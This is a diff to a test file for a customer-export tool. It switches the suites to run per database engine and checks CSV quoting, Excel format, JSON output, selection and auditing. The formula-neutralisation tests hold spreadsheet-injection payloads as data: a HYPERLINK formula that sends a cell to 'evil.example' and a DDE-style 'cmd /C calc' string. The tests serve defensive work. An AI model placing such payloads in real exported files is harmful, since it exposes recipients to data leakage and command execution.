@@ -1,6 +1,7 @@
-import { describe, it, expect } from 'vitest';
+import { it, expect } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { memoryCtx } from '../helpers/ctx.js';
+import { forEachEngine } from '../helpers/engines.js';
 import { DEFAULT_COLUMNS } from '../../src/core/export/columns.js';
 import fc from 'fast-check';
 import { CellKind, csvLineEncoder, joinedLineEncoder, neutralise, separatorsToDelimiter } from '../../src/io/write-csv.js';
@@ -8,7 +9,7 @@ import { add, consent, exportText, lines } from './export-fixtures.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")';
 
-describe('formula neutralisation', () => {
+forEachEngine('formula neutralisation', (engine) => {
   it('puts a quote before = + - @ tab and CR, in text cells only', () => {
     for (const s of [HYPERLINK, '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1)', '\tfoo', '\rbar']) expect(neutralise(s, CellKind.text)).toBe(`'${s}`);
     for (const s of ['Dupont', ' =1', "l'=x", 'a=b']) expect(neutralise(s, CellKind.text)).toBe(s);
@@ -52,7 +53,7 @@ describe('formula neutralisation', () => {
   });
 
   it('=HYPERLINK(…) in a name comes out neutralised in csv, tsv, excel and every preset; as is with --raw and in JSON', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     const id = add(ctx, { firstName: HYPERLINK, lastName: '@Dupont', email: 'jp@ex.fr', mobile: '06 12 34 56 78', notes: '-1 remise' });
     consent(ctx, id, 'email', 'granted', '2026-01-01T00:00:00Z');
     for (const input of [{}, { format: 'tsv' }, { excel: true }, { preset: 'brevo' }, { preset: 'mailchimp' }, { preset: 'google' }, { preset: 'outlook' }]) {
@@ -73,7 +74,7 @@ describe('formula neutralisation', () => {
   });
 });
 
-describe('csv writer', () => {
+forEachEngine('csv writer', (engine) => {
   it('quotes delimiters, quotes and line breaks; writes numbers as numbers', () => {
     const enc = csvLineEncoder([CellKind.text, CellKind.text, CellKind.number, CellKind.text], { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false });
     expect(enc(['a,b', 'say "hi"', 12.5, 'l1\nl2'])).toBe('"a,b","say ""hi""",12.5,"l1\nl2"\n');
@@ -83,7 +84,7 @@ describe('csv writer', () => {
   });
 
   it('default columns: the customer file as stored, in a stable order by id', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { lastName: 'Zorro', email: 'z@ex.fr', extra: { fidelite: 'or' }, categories: ['VIP', 'Amis'] });
     add(ctx, { lastName: 'Abel', email: 'a@ex.fr' });
     const { text, result } = await exportText(ctx, {});
@@ -97,7 +98,7 @@ describe('csv writer', () => {
   });
 
   it('--columns picks and orders; aliases, name, extra.KEY; --no-header; --sort', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { lastName: 'Zorro', postalCode: '69003', city: 'Lyon', extra: { 'Code client': 'Z1' } });
     add(ctx, { lastName: 'Abel', postalCode: '75011', city: 'Paris' });
     const { text } = await exportText(ctx, { columns: ['name', 'cp', 'ville', 'department', 'extra.Code client'], sort: ['last_name'] });
@@ -107,7 +108,7 @@ describe('csv writer', () => {
   });
 
   it('refuses unknown and repeated columns with a usage error naming the closest', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     await expect(exportText(ctx, { columns: ['emial'] })).rejects.toMatchObject({ exitCode: 2, message: expect.stringMatching(/unknown column 'emial'.*email/) });
     await expect(exportText(ctx, { columns: ['email', 'email'] })).rejects.toMatchObject({ exitCode: 2 });
     await expect(exportText(ctx, { columns: ['extra.'] })).rejects.toMatchObject({ exitCode: 2 });
@@ -116,7 +117,7 @@ describe('csv writer', () => {
   });
 
   it('--excel: BOM, semicolons, CRLF and decimal commas for French Excel', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     const id = add(ctx, { lastName: 'Meyer', city: 'Saint-Étienne' });
     ctx.store.db.prepare(`INSERT INTO sales (customer_id, kind, issued_on, amount_cents, status, created_at, updated_at) VALUES (?, 'invoice', '2026-01-02', 123456, 'paid', 'x', 'x')`).run(id);
     const { text } = await exportText(ctx, { excel: true, columns: ['last_name', 'city', 'revenue'] });
@@ -124,17 +125,17 @@ describe('csv writer', () => {
   });
 
   it('tsv: tab-separated with the same quoting', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { lastName: 'Meyer', notes: 'a\tb' });
-    ctx.store.db.prepare(`UPDATE customers SET notes = 'a' || char(9) || 'b'`).run();
+    ctx.store.db.prepare(`UPDATE customers SET notes = ?`).run('a\tb');
     const { text } = await exportText(ctx, { format: 'tsv', columns: ['last_name', 'notes'] });
     expect(text).toBe('last_name\tnotes\nMeyer\t"a\tb"\n');
   });
 });
 
-describe('json and ndjson', () => {
+forEachEngine('json and ndjson', (engine) => {
   it('json: one array, typed values (numbers, extra as object, categories as a list)', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { lastName: 'Meyer', extra: { fidelite: 'or' }, categories: ['VIP'] });
     add(ctx, { lastName: 'Abel' });
     const { text } = await exportText(ctx, { format: 'json', columns: ['id', 'last_name', 'extra', 'categories', 'revenue'] });
@@ -147,7 +148,7 @@ describe('json and ndjson', () => {
   });
 
   it('ndjson: one object per line with id, uid and external_id', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { lastName: 'Meyer', externalId: 'C001' });
     add(ctx, { lastName: 'Abel', externalId: 'C002' });
     const { text } = await exportText(ctx, { format: 'ndjson' });
@@ -157,9 +158,9 @@ describe('json and ndjson', () => {
   });
 });
 
-describe('selection', () => {
+forEachEngine('selection', (engine) => {
   it('--where, --category (all of them) and --ids combine', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     const a = add(ctx, { lastName: 'A', city: 'Lyon', categories: ['VIP', 'Pro'] });
     add(ctx, { lastName: 'B', city: 'Lyon', categories: ['VIP'] });
     add(ctx, { lastName: 'C', city: 'Paris', categories: ['VIP', 'Pro'] });
@@ -177,15 +178,15 @@ describe('selection', () => {
   });
 
   it('a bad filter is a usage error before anything is written', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     await expect(exportText(ctx, { where: 'city = ' })).rejects.toMatchObject({ exitCode: 2 });
     await expect(exportText(ctx, { sort: ['nope'] })).rejects.toMatchObject({ exitCode: 2 });
   });
 });
 
-describe('audit', () => {
+forEachEngine('audit', (engine) => {
   it('records who exported what selection and how many, never the data', async () => {
-    const ctx = memoryCtx();
+    const ctx = memoryCtx(engine);
     add(ctx, { firstName: 'Élodie', lastName: 'Meyer', email: 'elodie@ex.fr', city: 'Lyon' });
     add(ctx, { firstName: 'Jean', lastName: 'Abel', email: 'jean@ex.fr', city: 'Lyon' });
     await exportText(ctx, { where: 'city = "Lyon"', categories: [], for: 'marketing:email', preset: 'brevo' });
